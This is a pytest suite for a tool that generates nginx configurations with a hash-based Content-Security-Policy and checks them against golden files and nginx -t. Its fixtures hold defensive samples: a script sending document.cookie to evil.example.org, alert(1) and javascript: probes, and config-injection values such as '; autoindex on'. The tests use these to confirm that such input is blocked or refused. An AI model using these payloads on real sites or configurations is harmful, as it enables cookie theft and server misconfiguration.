"""`kb deploy nginx` without a running server: what it refuses, what it
allows by hash, and the configuration it writes (golden files; nginx -t
checks their syntax when nginx is installed)."""

from __future__ import annotations

import importlib.util
import re
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from kb_tools.cli import cli
from kb_tools.deploy import (
    InlineCode,
    NginxSettings,
    ThemeScripts,
    content_security_policy,
    csp_hash,
    nginx_config,
    scan_site,
)
from kb_tools.model import PUBLIC
from kb_tools.site.manifest import write_manifest

from .golden import compare
from .nginx_server import NGINX, requires_nginx

SERVED = "/srv/kunskapsbanken/current"



def _material_script(partial: str) -> str:
    """The last inline script of one of Material's partials, as a template."""
    spec = importlib.util.find_spec("material")
    assert spec is not None and spec.submodule_search_locations
    folder = Path(spec.submodule_search_locations[0]) / "templates" / "partials" / "javascripts"
    text = (folder / partial).read_text(encoding="utf-8")
    return re.findall(r"<script>(.*?)</script>", text, re.S)[-1]


SCOPE_TEMPLATE = _material_script("base.html")
TABBED = _material_script("content.html")
THEME = ThemeScripts.installed()


def _scope(base: str) -> str:
    return SCOPE_TEMPLATE.replace("{{ config.extra.scope | d(base_url) }}", base)


def _page(base: str, extra: str = "") -> str:
    return (
        f"<!doctype html><html><head>\n<script>{_scope(base)}</script>\n"
        f'<script id="__config" type="application/json">{{"base": "{base}"}}</script>\n'
        f'<script src="{base}/assets/javascripts/bundle.js"></script>\n</head><body>\n'
        '<table><tr><th style="text-align: right;">Antal</th></tr></table>\n'
        f"{extra}<script>{TABBED}</script>\n</body></html>\n"
    )


@pytest.fixture
def site(tmp_path: Path) -> Path:
    root = tmp_path / "site"
    pages = (("index.html", "."), ("404.html", "/"), ("rutiner/a/index.html", "../.."))
    for relative, base in pages:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(_page(base), encoding="utf-8")
    write_manifest(root, PUBLIC, "test")  # served both ways; only a public build may be public
    return root


def _kb(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["deploy", "nginx", *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


# -- the hashes ---------------------------------------------------------------


def test_csp_hash_is_sha256_of_the_text_as_the_browser_reads_it() -> None:
    # The example of the CSP specification, and CRLF read as LF.
    expected = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
    assert csp_hash("alert('Hello, world.');") == expected
    assert csp_hash("a\r\nb\rc") == csp_hash("a\nb\nc")


def test_only_the_theme_inline_scripts_are_hashed(site: Path) -> None:
    evil = "<script>fetch('https://evil.example.org/?' + document.cookie)</script>"
    (site / "rutiner" / "a" / "index.html").write_text(_page("../..", evil), encoding="utf-8")
    (site / "rutiner" / "b.html").write_text(
        '<p style="position: fixed; inset: 0">x</p>'
        '<script>__md_scope=new URL("x"+alert(1)+"",location)</script>',
        encoding="utf-8",
    )
    found = scan_site(site, THEME)
    assert found.pages == 4
    # The scope script for pages at every depth up to twelve folders, and
    # the 404 page's.
    depths = [".", "/", *("/".join([".."] * depth) for depth in range(1, 13))]
    assert found.script_hashes == {csp_hash(_scope(base)) for base in depths} | {
        csp_hash(TABBED)
    }
    assert found.style_hashes == {csp_hash("text-align: right;")}
    assert [(f.path, f.excerpt) for f in found.blocked_scripts] == [
        ("rutiner/a/index.html", "fetch('https://evil.example.org/?' + document.cookie)"),
        ("rutiner/b.html", '__md_scope=new URL("x"+alert(1)+"",location)'),
    ]
    assert [(f.path, f.excerpt) for f in found.blocked_styles] == [
        ("rutiner/b.html", "position: fixed; inset: 0")
    ]


def test_dot_folders_and_links_are_not_read(site: Path, tmp_path: Path) -> None:
    hidden = site / ".kb-cache" / "x.html"
    hidden.parent.mkdir()
    hidden.write_text("<script>alert(1)</script>", encoding="utf-8")
    outside = tmp_path / "outside.html"
    outside.write_text("<script>alert(2)</script>", encoding="utf-8")
    (site / "link.html").symlink_to(outside)
    found = scan_site(site, THEME)
    assert found.pages == 3
    assert found.blocked_scripts == []


def test_theme_script_templates() -> None:
    theme = ThemeScripts(
        [
            '<script>var a=new URL("{{ base_url }}",location)</script>',
            '<script id="__config" type="application/json">{{ config | tojson }}</script>',
            '<script src="{{ x }}"></script>',
            "{% if x %}<script>var b={% if y %}1{% endif %}</script>{% endif %}",
        ]
    )
    assert theme.count == 1
    assert 'var a=new URL("../..",location)' in theme
    assert 'var a=new URL("",location)' in theme
    assert theme.variants('var a=new URL("",location)') == {'var a=new URL("",location)'}
    assert theme.variants('var a=new URL("/",location)') == {
        f'var a=new URL("{base}",location)'
        for base in (".", "/", *("/".join([".."] * depth) for depth in range(1, 13)))
    }
    assert 'var a=new URL("x",alert(1),"",location)' not in theme
    assert 'var a=new URL("x\\",location)' not in theme
    assert "var b=1" not in theme
    assert _scope("../..") in THEME
    assert TABBED in THEME


def test_the_policy_names_every_source() -> None:
    inline = InlineCode(script_hashes={"'sha256-B'", "'sha256-A'"}, style_hashes={"'sha256-S'"})
    assert content_security_policy(inline) == (
        "default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'sha256-A' 'sha256-B'; "
        "style-src 'self' 'unsafe-hashes' 'sha256-S'; img-src 'self' data:; font-src 'self'; "
        "connect-src 'self'; worker-src 'self'; media-src 'self'; manifest-src 'self'; "
        "form-action 'self'; base-uri 'none'; object-src 'none'; frame-ancestors 'none'"
    )
    assert "unsafe-hashes" not in content_security_policy(InlineCode())


# -- golden configurations ----------------------------------------------------


def _golden_text(settings: NginxSettings, site: Path, prefix: Path | None = None) -> str:
    text = nginx_config(settings, THEME).text.replace(str(site), SERVED)
    return text.replace(str(prefix), "/var/lib/kunskapsbanken-nginx") if prefix else text


def test_internal_server_block_with_basic_auth(site: Path) -> None:
    settings = NginxSettings.create(
        site_dir=site, listen="127.0.0.1:8080", htpasswd="/etc/nginx/kunskapsbanken.htpasswd"
    )
    compare("deploy/internal-htpasswd.conf", _golden_text(settings, site))


def test_internal_standalone_with_single_sign_on(site: Path, tmp_path: Path) -> None:
    prefix = tmp_path / "nginx"
    settings = NginxSettings.create(
        site_dir=site,
        listen="127.0.0.1:8080",
        auth_request="http://127.0.0.1:4180/oauth2/auth",
        standalone=True,
        prefix=prefix,
    )
    compare("deploy/internal-sso-standalone.conf", _golden_text(settings, site, prefix))


def test_public_server_block(site: Path) -> None:
    settings = NginxSettings.create(site_dir=site, listen="*:80", public=True)
    compare("deploy/public.conf", _golden_text(settings, site))


@requires_nginx
@pytest.mark.parametrize(
    "options",
    [
        ["--htpasswd", "HTPASSWD"],
        ["--auth-request", "https://127.0.0.1:4443/oauth2/auth?allowed_groups=socialtjanst"],
        ["--auth-request", "http://127.0.0.1:9090/validate"],
        ["--no-auth"],
        ["--public"],
    ],
    ids=["htpasswd", "sso-https", "sso-root", "no-auth", "public"],
)
def test_nginx_accepts_every_variant(site: Path, tmp_path: Path, options: list[str]) -> None:
    htpasswd = tmp_path / "htpasswd"
    htpasswd.write_text("a:{PLAIN}b\n", encoding="utf-8")
    options = [str(htpasswd) if o == "HTPASSWD" else o for o in options]
    prefix = tmp_path / "prefix"
    standalone = tmp_path / "standalone.conf"
    code, _, _ = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", *options,
                     "--standalone", "--prefix", str(prefix), "-o", str(standalone))
    assert code == 0
    code, server, _ = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", *options)
    assert code == 0
    temp_paths = "".join(
        f'  {name}_temp_path "{prefix}/{name}";\n'
        for name in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    wrapper = tmp_path / "main.conf"
    wrapper.write_text(
        f'pid "{prefix}/test.pid";\nerror_log "{prefix}/error.log";\nevents {{}}\n'
        f"http {{\n{temp_paths}  access_log off;\n{server}}}\n",
        encoding="utf-8",
    )
    for conf in (standalone, wrapper):
        result = subprocess.run(
            [str(NGINX), "-t", "-q", "-p", str(prefix), "-c", str(conf)],
            capture_output=True, text=True, check=False,
        )
        assert result.returncode == 0, result.stderr


# -- the command ------------------------------------------------------------------


def test_prints_the_configuration_and_warns_on_stderr(site: Path) -> None:
    (site / "rutiner" / "c.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    code, out, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", "--no-auth")
    assert code == 0
    assert out.startswith(f"# Kunskapsbanken: the internal site in {site}\n")
    assert "server {\n    listen 127.0.0.1:8080;\n" in out
    assert "auth_basic" not in out and "auth_request" not in out
    assert err == (
        "Warning: The Content-Security-Policy blocks inline scripts that are not the theme's "
        "(1 found: rutiner/c.html: alert(1)); move wanted code into a file under "
        "overrides/assets/javascripts/ and remove raw <script> from pages (KB402).\n"
    )


def test_writes_the_file_and_says_how_to_start_it(site: Path, tmp_path: Path) -> None:
    output = tmp_path / "nginx.conf"
    prefix = tmp_path / "run"
    code, out, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", "--public",
                         "--standalone", "--prefix", str(prefix), "-o", str(output))
    assert (code, out) == (0, "")
    assert err == (
        f"Wrote the nginx configuration for the public site to {output}.\n"
        f"Start it with: nginx -p {prefix} -c {output}\n"
    )
    assert prefix.is_dir()
    text = output.read_text(encoding="utf-8")
    assert f'pid "{prefix}/nginx.pid";' in text
    assert f'    client_body_temp_path "{prefix}/client_body_temp";' in text
    assert "X-Robots-Tag" not in text and "auth_basic" not in text


def test_a_missing_htpasswd_file_is_a_warning(site: Path, tmp_path: Path) -> None:
    code, _, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080",
                       "--htpasswd", str(tmp_path / "saknas"))
    assert code == 0
    assert err == (
        f"Warning: {tmp_path / 'saknas'} does not exist here; nginx will refuse every login "
        "until it does (create it with: htpasswd -c FILE USER).\n"
    )


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (
            [],
            "The internal site must only be readable after login: give --htpasswd FILE or "
            "--auth-request URL, or --no-auth if a server in front of nginx already asks for a "
            "login.",
        ),
        (
            ["--public", "--htpasswd", "/etc/nginx/kb.htpasswd"],
            "--public serves the site to everyone without login; drop --htpasswd and "
            "--auth-request, or drop --public for the internal site.",
        ),
        (
            ["--htpasswd", "/etc/a", "--auth-request", "http://127.0.0.1:4180/oauth2/auth"],
            "--htpasswd and --auth-request are two ways to log in; give one of them.",
        ),
        (
            ["--no-auth", "--htpasswd", "/etc/a"],
            "--no-auth says that nginx asks for no login, but --htpasswd or --auth-request asks "
            "for one; give only one of them.",
        ),
        (
            ["--no-auth", "--standalone"],
            "--standalone needs --prefix DIR for its pid file, logs and temporary files.",
        ),
        (
            ["--no-auth", "--prefix", "/tmp/x"],
            "--prefix is only used with --standalone; add --standalone or drop --prefix.",
        ),
    ],
    ids=["no-login", "public-login", "two-logins", "no-auth-and-login", "no-prefix",
         "no-standalone"],
)
def test_options_that_do_not_go_together(site: Path, options: list[str], message: str) -> None:
    code, out, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", *options)
    assert (code, out, err) == (2, "", f"Error: {message}\n")


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        (
            None,
            "--site-dir {site} does not say who it was built for (it has no .kb-site.json, "
            "which kb build writes), so --public cannot be sure it holds no internal pages; "
            "build it again with kb build --public.",
        ),
        (
            '{"generator": "kb-tools", "version": "1.0", "audience": "internal"}',
            "--site-dir {site} holds the internal site, and --public would serve its internal "
            "pages to everyone without login; serve the public build instead (kb build "
            "--public writes it to site-public/).",
        ),
        (
            '{"generator": "kb-tools", "version": "1.0", "audience": "everyone"}',
            "--site-dir {site} does not say who it was built for (it has no .kb-site.json, "
            "which kb build writes), so --public cannot be sure it holds no internal pages; "
            "build it again with kb build --public.",
        ),
    ],
    ids=["no-manifest", "internal", "unknown-audience"],
)
def test_only_a_public_build_is_served_without_login(
    site: Path, manifest: str | None, message: str
) -> None:
    (site / ".kb-site.json").unlink()
    if manifest is not None:
        (site / ".kb-site.json").write_text(manifest, encoding="utf-8")
    code, out, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", "--public")
    assert (code, out, err) == (2, "", f"Error: {message.format(site=site)}\n")
    # Behind a login, any build may be served.
    code, _, _ = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080", "--no-auth")
    assert code == 0


def test_a_folder_that_is_not_a_built_site(tmp_path: Path) -> None:
    code, _, err = _kb("--site-dir", str(tmp_path), "--listen", "127.0.0.1:80", "--no-auth")
    assert code == 2
    assert err == (
        f"Error: --site-dir {tmp_path} has no index.html; is it a built site? "
        f"(kb build -d {tmp_path})\n"
    )
    code, _, err = _kb("--site-dir", str(tmp_path / "saknas"), "--listen", "127.0.0.1:80",
                       "--no-auth")
    assert err == (
        f"Error: --site-dir {tmp_path / 'saknas'} is not a folder; build the site first "
        f"(kb build -d {tmp_path / 'saknas'}).\n"
    )


def test_secrets_and_logs_may_not_lie_in_the_served_folder(site: Path) -> None:
    code, _, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:80",
                       "--htpasswd", str(site / "htpasswd"))
    assert (code, err) == (2, (
        f"Error: --htpasswd {site / 'htpasswd'} lies inside the served folder {site}, so "
        "anyone could download it; keep it outside, for example in /etc/nginx/.\n"
    ))
    code, _, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:80", "--no-auth",
                       "--standalone", "--prefix", str(site / "logs"))
    assert (code, err) == (2, (
        f"Error: --prefix {site / 'logs'} lies inside the served folder {site}, so its logs "
        "would be served; choose a folder outside it.\n"
    ))


# -- hostile values -------------------------------------------------------------

PATH_REFUSAL = (
    "which nginx would not read as part of a path; choose a path without ; { } $ # ` quotes, "
    "backslashes or control characters."
)


@pytest.mark.parametrize(
    ("suffix", "described"),
    [
        ("; autoindex on", "';'"),
        ("{ }", "'{'"),
        ("}", "'}'"),
        ('"', "'\"'"),
        ("'", "'''"),
        ("\\", "'\\'"),
        ("$document_root", "'$'"),
        ("\n    autoindex on", "a line break"),
        ("\r", "a carriage return"),
        ("\x00", "the control character U+0000"),
        ("#", "'#'"),
    ],
)
@pytest.mark.parametrize("option", ["--site-dir", "--htpasswd", "--prefix"])
def test_hostile_paths_are_refused(site: Path, option: str, suffix: str, described: str) -> None:
    value = f"/srv/kb{suffix}"
    options = {
        "--site-dir": ["--site-dir", value, "--no-auth"],
        "--htpasswd": ["--site-dir", str(site), "--htpasswd", value],
        "--prefix": ["--site-dir", str(site), "--no-auth", "--standalone", "--prefix", value],
    }[option]
    code, out, err = _kb("--listen", "127.0.0.1:8080", *options)
    assert (code, out) == (2, "")
    assert err == f"Error: {option} {value!r} contains {described}, {PATH_REFUSAL}\n"


URL_REFUSAL = (
    "which cannot be written safely into an nginx configuration; percent-encode it or choose "
    "another URL."
)


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("http://127.0.0.1:4180/oauth2/auth; autoindex on",
         "--auth-request 'http://127.0.0.1:4180/oauth2/auth; autoindex on' contains ';', "
         + URL_REFUSAL),
        ("http://127.0.0.1:4180/$host",
         f"--auth-request 'http://127.0.0.1:4180/$host' contains '$', {URL_REFUSAL}"),
        ("http://127.0.0.1:4180/a{b}",
         f"--auth-request 'http://127.0.0.1:4180/a{{b}}' contains '{{', {URL_REFUSAL}"),
        ('http://127.0.0.1:4180/"',
         f"--auth-request 'http://127.0.0.1:4180/\"' contains '\"', {URL_REFUSAL}"),
        ("http://127.0.0.1:4180/a\nb",
         f"--auth-request 'http://127.0.0.1:4180/a\\nb' contains a line break, {URL_REFUSAL}"),
        ("http://127.0.0.1:4180/a b",
         f"--auth-request 'http://127.0.0.1:4180/a b' contains a space, {URL_REFUSAL}"),
        ("javascript:alert(1)",
         "--auth-request expects the gateway's check URL, such as "
         "http://127.0.0.1:4180/oauth2/auth, found 'javascript:alert(1)'."),
        ("127.0.0.1:4180/oauth2/auth",
         "--auth-request expects the gateway's check URL, such as "
         "http://127.0.0.1:4180/oauth2/auth, found '127.0.0.1:4180/oauth2/auth'."),
        ("http://kb:hemligt@127.0.0.1:4180/oauth2/auth",
         "--auth-request 'http://kb:hemligt@127.0.0.1:4180/oauth2/auth' carries a user name or "
         "password; the configuration would show it to everyone who can read it, so give the "
         "URL without them."),
        ("http://127.0.0.1:99999/auth",
         "--auth-request 'http://127.0.0.1:99999/auth' is not a valid URL: "
         "Port out of range 0-65535."),
        ("http://127.0.0.1:4180/auth#x",
         f"--auth-request 'http://127.0.0.1:4180/auth#x' contains '#', {URL_REFUSAL}"),
        ("http://127.0.0.1:4180/a%zz",
         "--auth-request 'http://127.0.0.1:4180/a%zz' has a '%' that does not start a %XX escape."),
        ("http://127.0.0.1:4180/a|b",
         "--auth-request 'http://127.0.0.1:4180/a|b' has a path or query with characters nginx "
         "cannot take as they are; percent-encode them."),
        ("http://ex_ample.se/auth",
         "--auth-request 'http://ex_ample.se/auth' has the host 'ex_ample.se', which is not a "
         "host name."),
    ],
)
def test_hostile_gateway_urls_are_refused(site: Path, url: str, message: str) -> None:
    code, out, err = _kb("--site-dir", str(site), "--listen", "127.0.0.1:8080",
                         "--auth-request", url)
    assert (code, out, err) == (2, "", f"Error: {message}\n")


@pytest.mark.parametrize(
    ("listen", "message"),
    [
        ("8080", "--listen expects ADDR:PORT such as 127.0.0.1:8080, [::1]:8080 or *:80, "
                 "found '8080'."),
        ("127.0.0.1:http", "--listen '127.0.0.1:http' has the port 'http'; expected a number "
                           "from 1 to 65535."),
        ("127.0.0.1:0", "--listen '127.0.0.1:0' has the port '0'; expected a number from 1 to "
                        "65535."),
        ("127.0.0.1;:80", "--listen '127.0.0.1;:80' has the address '127.0.0.1;'; expected an "
                          "IPv4 address, an IPv6 address in brackets, * or a host name, as in "
                          "127.0.0.1:8080, [::1]:8080 or *:80."),
        ("::1:80", "--listen '::1:80' has the address '::1'; expected an IPv4 address, an IPv6 "
                   "address in brackets, * or a host name, as in 127.0.0.1:8080, [::1]:8080 or "
                   "*:80."),
    ],
)
def test_bad_listen_addresses_are_refused(site: Path, listen: str, message: str) -> None:
    code, _, err = _kb("--site-dir", str(site), "--listen", listen, "--no-auth")
    assert (code, err) == (2, f"Error: {message}\n")


def test_good_listen_addresses(site: Path) -> None:
    for listen in ("[::1]:8080", "*:80", "0.0.0.0:443", "kb.intra.example.se:8080"):
        code, out, _ = _kb("--site-dir", str(site), "--listen", listen, "--no-auth")
        assert code == 0
        assert f"    listen {listen};\n" in out


def test_basic_auth_on_an_open_address_warns_about_tls(site: Path, tmp_path: Path) -> None:
    htpasswd = tmp_path / "htpasswd"
    htpasswd.write_text("a:{PLAIN}b\n", encoding="utf-8")
    code, _, err = _kb("--site-dir", str(site), "--listen", "0.0.0.0:80", "--htpasswd",
                       str(htpasswd))
    assert code == 0
    assert err == (
        "Warning: nginx listens on 0.0.0.0:80 without TLS: basic-auth passwords cross the "
        "network readable unless a TLS proxy sits in front; listen on 127.0.0.1 behind it or "
        "add ssl_certificate to the server block.\n"
    )


def test_the_served_link_is_kept_not_resolved(site: Path, tmp_path: Path) -> None:
    current = tmp_path / "current"
    current.symlink_to(site)
    code, out, _ = _kb("--site-dir", str(current), "--listen", "127.0.0.1:80", "--no-auth")
    assert code == 0
    assert f'    root "{current}";\n' in out


def test_warnings_name_blocked_styles_and_a_missing_theme(site: Path) -> None:
    page = site / "rutiner" / "d.html"
    page.write_text('<p style="color: red\x1b[31m">x</p><script>a()</script>', encoding="utf-8")
    settings = NginxSettings.create(site_dir=site, listen="127.0.0.1:80", no_auth=True)
    assert nginx_config(settings, ThemeScripts([])).warnings == (
        "The templates of Material for MkDocs were not found here, so no inline script can be "
        "recognised as the theme's; run kb deploy nginx where kb-tools is installed with its "
        "dependencies.",
        "The Content-Security-Policy blocks inline scripts that are not the theme's (7 found: "
        "404.html: " + _scope("/")[:59] + "…; 404.html: " + TABBED[:59] + "…; "
        "index.html: " + _scope(".")[:59] + "…; index.html: " + TABBED[:59] + "…; "
        "rutiner/a/index.html: " + _scope("../..")[:59] + "…); move wanted code into a file "
        "under overrides/assets/javascripts/ and remove raw <script> from pages (KB402).",
        "The Content-Security-Policy ignores inline style attributes other than table "
        "alignments (1 found: rutiner/d.html: color: red?[31m); use a class and a rule "
        "in a style sheet under overrides/assets/stylesheets/.",
    )


@requires_nginx
def test_a_path_with_spaces_and_swedish_letters(tmp_path: Path, site: Path) -> None:
    served = tmp_path / "Kunskapsbank för Söderort"
    site.rename(served)
    prefix = tmp_path / "körning"
    output = tmp_path / "nginx.conf"
    code, _, _ = _kb("--site-dir", str(served), "--listen", "127.0.0.1:8080", "--no-auth",
                     "--standalone", "--prefix", str(prefix), "-o", str(output))
    assert code == 0
    assert f'root "{served}";' in output.read_text(encoding="utf-8")
    result = subprocess.run([str(NGINX), "-t", "-q", "-p", str(prefix), "-c", str(output)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


# -- the browser editor (/admin/) ------------------------------------------------------


def _admin_page(site: Path, policy: str) -> None:
    page = site / "admin" / "index.html"
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text(
        '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" '
        f'content="{policy}"></head><body></body></html>\n',
        encoding="utf-8",
    )


ADMIN_POLICY = (
    "default-src 'self'; script-src 'self' 'unsafe-eval' https://unpkg.com; "
    "style-src 'self' 'unsafe-inline'; connect-src 'self' blob: https://git.example.se"
)


def test_the_editor_location_carries_the_admin_page_s_own_policy(site: Path) -> None:
    from kb_tools.deploy import NginxSettings, nginx_config

    _admin_page(site, ADMIN_POLICY)
    settings = NginxSettings.create(site_dir=site, listen="127.0.0.1:8080", no_auth=True)
    config = nginx_config(settings)
    assert f"""    set $kb_admin_csp "{ADMIN_POLICY}; frame-ancestors 'none'";\n""" in config.text
    location = config.text.split("    location /admin/ {\n", 1)[1].split("    }\n", 1)[0]
    assert "add_header Content-Security-Policy $kb_admin_csp always;" in location
    assert 'add_header Cache-Control "private, no-cache";' in location
    assert "add_header X-Robots-Tag" in location
    assert config.text.count("$kb_admin_csp") == 2  # set once, used only for /admin/
    assert "'unsafe-eval'" not in config.csp


@pytest.mark.parametrize(
    ("policy", "problem"),
    [
        (
            "script-src 'self' 'unsafe-eval'; sandbox allow-scripts",
            "unexpected directive 'sandbox'",
        ),
        ("script-src 'self' https://x.example.se/$evil", "unexpected source"),
        ("script-src * 'unsafe-eval'", "unexpected source '*' in script-src"),
        ("connect-src 'self' \"; return 200", "unexpected source"),
        ("frame-ancestors *", "unexpected directive 'frame-ancestors'"),
    ],
)
def test_an_admin_policy_kb_did_not_write_gets_no_location(
    site: Path, policy: str, problem: str
) -> None:
    from kb_tools.deploy import NginxSettings, nginx_config

    _admin_page(site, policy.replace('"', "&quot;"))
    settings = NginxSettings.create(site_dir=site, listen="127.0.0.1:8080", no_auth=True)
    config = nginx_config(settings)
    assert "location /admin/" not in config.text and "$kb_admin_csp" not in config.text
    (warning,) = [w for w in config.warnings if "admin" in w]
    assert problem in warning
    assert warning.endswith(
        "/admin/ is served under the site's policy, where the editor cannot run. "
        "Build the site again with this kb-tools."
    )


def test_a_public_site_with_the_editor_is_named_in_a_warning(site: Path) -> None:
    from kb_tools.deploy import NginxSettings, nginx_config

    _admin_page(site, ADMIN_POLICY)
    settings = NginxSettings.create(site_dir=site, listen="127.0.0.1:8080", public=True)
    config = nginx_config(settings)
    assert "location /admin/" not in config.text
    assert any("the public build never carries the editor" in w for w in config.warnings)
